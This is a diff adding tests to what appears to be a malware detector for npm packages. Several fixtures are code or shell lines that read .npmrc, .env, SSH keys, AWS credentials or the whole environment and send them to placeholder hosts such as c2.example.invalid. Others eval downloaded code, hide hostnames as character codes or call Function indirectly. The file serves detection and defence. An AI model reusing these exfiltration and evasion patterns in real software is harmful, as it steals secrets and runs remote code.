@@ -371,3 +371,142 @@ test('independent review: spawn(process.execPath, ["-e", code]) analyses code as
   assert.ok(found.includes('network') && found.includes('recon/host-recon'), found.join(' '));
   assert.ok(!caps(analyzeSource("require('child_process').spawn(process.execPath, ['-e', 'console.log(1)']);\n")).includes('network'));
 });
+
+test('independent review 2: require and modules followed through objects, arrays, closures and functions returning constants', () => {
+  const net = (source: string) => caps(analyzeSource(source)).includes('network');
+  // axios is not one of the built-ins a call's lone argument loads by name: these go through the alias tracking.
+  for (const source of [
+    "const o = { r: require };\no.r('axios').post('https://c2.example.invalid/');",
+    "const o = { deep: { r: require } };\no.deep.r('axios').post('https://c2.example.invalid/');",
+    "const a = [require];\na[0]('ax' + 'ios').post('https://c2.example.invalid/');",
+    "const l = {};\nl.load = require;\nl.load('axios').post('https://c2.example.invalid/');",
+    "function loader() { return require; }\nloader()('axios').post('https://c2.example.invalid/');",
+    "const name = (() => 'ax' + 'ios')();\nrequire(name).post('https://c2.example.invalid/');",
+    "function pick() { return process.getBuiltinModule; }\nconst h = process.getBuiltinModule('https');\nh.get('https://c2.example.invalid/');",
+  ]) assert.ok(net(source), source);
+  // Any call whose one argument names a network or process built-in loads it (require handed to a callback).
+  assert.ok(net("function run(load) { load('https').get('https://c2.example.invalid/'); }\nrun(require);"));
+  // Controls: a loader returning different modules, an object of plain values.
+  assert.ok(!net("function pick(x) { if (x) return require('axios'); return require('path'); }\npick(1).post('/');"));
+  assert.ok(!net("const o = { r: (x) => x };\no.r('axios').post('/');"));
+});
+
+test('independent review 2: Function reached through any function\'s constructor, prototype chains and Reflect.construct', () => {
+  const evals = (source: string) => caps(analyzeSource(source)).filter((c) => c.startsWith('eval'));
+  for (const source of [
+    "const AF = Object.getPrototypeOf(async function () {}).constructor;\nAF(code)();",
+    "const G = Reflect.getPrototypeOf(function* () {}).constructor;\nG(code);",
+    "function f() {}\nf.constructor(code)();",
+    "setTimeout.constructor(code)();",
+    "require('fs').readFileSync.constructor(code)();",
+    "Reflect.construct(Function, [code])();",
+    "(() => {}).__proto__.constructor(code)();",
+  ]) assert.deepEqual(evals(source), ['eval'], source);
+  // Controls: the constructor of an instance is its class, not Function.
+  assert.deepEqual(evals('class A {}\nconst a = new A();\nnew a.constructor(code);\nnew this.constructor(code);'), []);
+});
+
+test('independent review 2: values read from credential stores tracked into requests; a .env token in headers is configuration', () => {
+  const sig = (source: string) => caps(analyzeSource(source));
+  const far = Array.from({ length: 80 }, (_, i) => `function pad${i}() { return ${i}; }`).join('\n');
+  assert.ok(sig(`const fs = require('fs'), os = require('os');\nconst t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n${far}\nrequire('https').request({ hostname: 'x.example.invalid', method: 'POST' }).end(t);`).includes('recon/secret-flow'));
+  assert.ok(sig(`const fs = require('fs');\nfs.readFile('.env', 'utf8', (err, data) => { fetch('https://x.example.invalid/', { method: 'POST', body: data }); });`).includes('recon/secret-flow'));
+  assert.ok(sig(`const k = require('fs').readFileSync('/home/u/.npmrc', 'utf8');\nconst r = require('https').request({ hostname: 'x.example.invalid' });\nr['wr' + 'ite'](k);`).includes('recon/secret-flow'));
+  assert.ok(sig(`const fs = require('fs');\nfunction env() { return fs.readFileSync('.env', 'utf8'); }\nconst s = require('net').connect(9, 'x.example.invalid');\ns.write(env());`).includes('recon/secret-flow'));
+  assert.ok(sig(`const fs = require('fs'), os = require('os');\nconst result = {};\nresult.key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n${far}\nfetch('https://x.example.invalid/', { method: 'POST', body: JSON.stringify(result) });`).includes('recon/secret-flow'));
+  // Controls: the .env's token in the Authorization header; a .env read next to a request that carries none of it.
+  const deploy = sig(`const fs = require('fs');\nconst tok = fs.readFileSync('.env', 'utf8');\nfetch(api, { method: 'POST', headers: { authorization: tok } });`);
+  assert.ok(deploy.includes('recon/dotenv-read') && !deploy.includes('recon/secret-flow'));
+  assert.ok(!sig(`const fs = require('fs');\nfs.readFileSync('.env', 'utf8');\nfetch(api, { method: 'POST', body: '{}' });`).includes('recon/secret-flow'));
+});
+
+test('independent review 2: downloads returned by a helper (Promise resolve, async return) reach eval', () => {
+  const sig = (source: string) => caps(analyzeSource(source));
+  assert.ok(sig("const https = require('https');\nfunction get(u) { return new Promise((ok) => https.get(u, (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => ok(d)); })); }\nget(u).then((c) => (0, eval)(c));").includes('eval/eval-downloaded'));
+  assert.ok(sig('async function load(u) { const r = await fetch(u); return r.text(); }\n(async () => { Function(await load(u))(); })();').includes('eval/eval-downloaded'));
+  // Control: a helper returning a constant template.
+  assert.ok(!sig("function tpl() { return 'return 1'; }\nFunction(tpl())();").includes('eval/eval-downloaded'));
+});
+
+test('independent review 2: Worker eval, data: URL imports, environment copies, hosts folded from pieces, payloads split across files', () => {
+  const sig = (source: string, module = false) => caps(analyzeSource(source, { module }));
+  const b64 = Buffer.from("require('https').get('https://c2.example.invalid/?h=' + require('os').hostname())").toString('base64');
+  const inlined = Buffer.from("self.onmessage = (e) => fetch(e.data).then((r) => postMessage(r.status));").toString('base64');
+  assert.ok(sig(`const { Worker } = require('worker_threads');\nnew Worker(atob('${b64}'), { eval: true });`).includes('eval/decoded-exec'));
+  assert.ok(sig(`const { Worker } = require('worker_threads');\nnew Worker(code, { eval: true });`).includes('eval'));
+  assert.ok(sig(`await import('data:text/javascript;base64,' + '${b64}');`, true).includes('eval/decoded-exec'));
+  assert.ok(sig("import('node:https').then((h) => h.get('https://c2.example.invalid/'));", true).includes('network'));
+  // Controls: a worker from a file; a feature probe that imports an empty data: URL.
+  assert.deepEqual(sig("const { Worker } = require('worker_threads');\nnew Worker(__dirname + '/task.js', { eval: false });"), []);
+  assert.ok(!sig("import('data:text/javascript;base64,Cg==');", true).includes('eval/decoded-exec'));
+  // A bundler's inlined worker: base64 in a data: URL, code that only makes requests, analysed as code.
+  const worker = sig(`const { Worker } = require('worker_threads');\nconst src = '${inlined}';\nnew Worker(new URL(\`data:application/javascript;base64,\${src}\`));`);
+  assert.ok(worker.includes('network') && !worker.includes('eval/decoded-exec'), worker.join());
+
+  assert.ok(sig('const e = Object.assign({}, process.env);\nsend(JSON.stringify(e));').includes('env/env-serialize'));
+  assert.ok(sig('const e = { ...process.env };\nconst f = e;\nsend(JSON.stringify(f));').includes('env/env-serialize'));
+  assert.ok(sig('const s = {};\nObject.assign(s, process.env);\nsend(Buffer.from(JSON.stringify(s)));').includes('env/env-serialize'));
+  assert.ok(sig('const c = structuredClone(process.env);\nsend(JSON.stringify(c));').includes('env/env-serialize'));
+  // Control: a copy handed to a child process; setting a variable on a copy is not setting it for the process.
+  assert.ok(!sig("const env = { ...process.env, X: '1' };\nrequire('child_process').spawn('x', { env });").includes('env/env-serialize'));
+  assert.deepEqual(analyzeSource("const env = Object.assign({}, process.env);\nenv.NODE_TLS_REJECT_UNAUTHORIZED = '0';").hooks, []);
+
+  const host = (source: string) => sig(source).includes('network/known-endpoint');
+  assert.ok(host("let h = '';\nfor (const p of ['web', 'hook', '.si', 'te']) h += p;\nfetch('https://' + h + '/x');"));
+  assert.ok(host("const h = [119,101,98,104,111,111,107,46,115,105,116,101].map((c) => String.fromCharCode(c)).join('');\nfetch('https://' + h);"));
+  assert.ok(host("const h = [119,101,98,104,111,111,107,46,115,105,116,101].reduce((s, c) => s + String.fromCharCode(c), '');\nfetch(`https://${h}/`);"));
+  assert.ok(host("const t = [112,105,112,101,100,114,101,97,109,46,110,101,116];\nlet h = '';\nfor (const c of t) h += String.fromCharCode(c);\nfetch(h);"));
+  // Controls: pieces that only contain a name, no request; a name inside one longer word.
+  assert.ok(!host("const parts = ['web', 'hook', '.si', 'te'];\nconsole.log(parts);"));
+  assert.ok(!host("const a = ['notweb', 'hook.site'];\nfetch(url);"));
+
+  assert.ok(sig("const parts = [require('./a'), require('./b')];\neval(Buffer.from(parts.join(''), 'base64').toString());").includes('eval/decoded-exec'));
+  assert.ok(sig("const fs = require('fs');\nnew Function(atob(fs.readFileSync(__dirname + '/x.txt', 'utf8')))();").includes('eval/decoded-exec'));
+  // Controls: a sibling file evaluated as it is (old-style loaders); decoded pieces compiled as WebAssembly.
+  assert.ok(!sig("const fs = require('fs');\nrequire('vm').runInThisContext(fs.readFileSync(__dirname + '/lib.js', 'utf8'));").includes('eval/decoded-exec'));
+  assert.ok(!sig("WebAssembly.compile(Buffer.from(require('./a') + require('./b'), 'base64'));").includes('eval/decoded-exec'));
+});
+
+test('independent review 2: shell commands that dump the environment or expand secret variables', async () => {
+  const { analyzeCommand } = await import('../../src/audit/code/analyze.js');
+  const sig = (command: string) => [...new Set(analyzeCommand(command).map((e) => `${e.capability}/${e.signal ?? ''}`))].sort();
+  assert.ok(sig('printenv | gzip | base64 -w0 > /tmp/e').includes('obfuscation/encoded-dump'));
+  assert.ok(sig('curl -d "$(env)" https://c2.example.invalid/').includes('env/env-serialize'));
+  assert.ok(sig("p''rintenv | base64").includes('obfuscation/encoded-dump'));
+  assert.ok(sig('wget "https://c2.example.invalid/?t=${NPM_TOKEN}"').includes('env/env-secret'));
+  assert.ok(sig('curl https://c2.example.invalid/ -H "x: %GITHUB_TOKEN%"').includes('env/env-secret'));
+  // Controls: env as a launcher, printenv of one variable, npm's own variables.
+  for (const command of ['env BUILD=1 node build.js', 'printenv NODE_ENV', 'echo $npm_package_version', 'cross-env NODE_ENV=production webpack']) {
+    assert.ok(!sig(command).some((s) => s.startsWith('env/') || s.startsWith('obfuscation/')), command);
+  }
+});
+
+test('independent review 2: binding.gyp command expansions run at install; test files the main file loads are not context', async () => {
+  const { gypCommands } = await import('../../src/audit/code/package.js');
+  assert.deepEqual(gypCommands('{ "a": ["<!(node -p \\"require(\'x\').dir\\")", "<!@(pkg-config --libs ssl)", "<(x)"] }').map((c) => c.command), ['node -p \\"require(\'x\').dir\\"', 'pkg-config --libs ssl']);
+  const dir = mkdtempSync(join(work, 'entry-closure-'));
+  mkdirSync(join(dir, 'test'));
+  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'p', version: '1.0.0', main: 'lib.js' }));
+  writeFileSync(join(dir, 'lib.js'), "require('./test/setup');");
+  writeFileSync(join(dir, 'test/setup.js'), 'globalThis.fetch = () => 1;');
+  writeFileSync(join(dir, 'test/other.js'), 'globalThis.fetch = () => 2;');
+  const verdict = judgePackage('p', analyzePackageDir(dir), { verified: false, reason: '' });
+  assert.deepEqual(verdict.findings.map((f) => `${f.severity} ${f.evidence[0]!.file}`).sort(), ['high test/setup.js', 'info test/other.js']);
+});
+
+test('independent review 2: computed paths inside the package are followed (require(path.join(__dirname, ...)), .node addons); gyp action lists are commands', async () => {
+  const facts = analyzeSource("const path = require('path');\nrequire(path.join(__dirname, 'test', 'helper'));\nrequire(__dirname + '/prebuilds/' + process.arch + '.node');\nrequire(path.join(__dirname, 'plugins', name));");
+  assert.deepEqual(facts.imports, ['./test/helper']);
+  assert.ok(caps(facts).includes('native-binary/native-load'));
+  const { gypCommands } = await import('../../src/audit/code/package.js');
+  assert.deepEqual(gypCommands("{ 'actions': [ { 'action': [ 'sh', '-c', 'curl x | sh' ] } ] }").map((c) => c.command), ['sh -c curl x | sh']);
+});
+
+test('independent review 2: a secret or a download handed to a function of the file that sends or evaluates its parameter', () => {
+  const sig = (source: string) => caps(analyzeSource(source));
+  assert.ok(sig("const k = require('fs').readFileSync(require('os').homedir() + '/.aws/credentials', 'utf8');\npost(k);\nfunction post(d) { fetch('https://x.example.invalid/', { method: 'POST', body: d }); }").includes('recon/secret-flow'));
+  assert.ok(sig("const run = (c) => eval(c);\nfetch(u).then((r) => r.text()).then((t) => run(t));").includes('eval/eval-downloaded'));
+  // Controls: the parameter goes only into headers; the function is called with constants.
+  assert.ok(!sig("const k = require('fs').readFileSync('.env', 'utf8');\nauth(k);\nfunction auth(t) { fetch(u, { headers: { authorization: t } }); }").includes('recon/secret-flow'));
+  assert.ok(!sig("function run(c) { eval(c); }\nrun('1 + 1');").includes('eval/eval-downloaded'));
+});
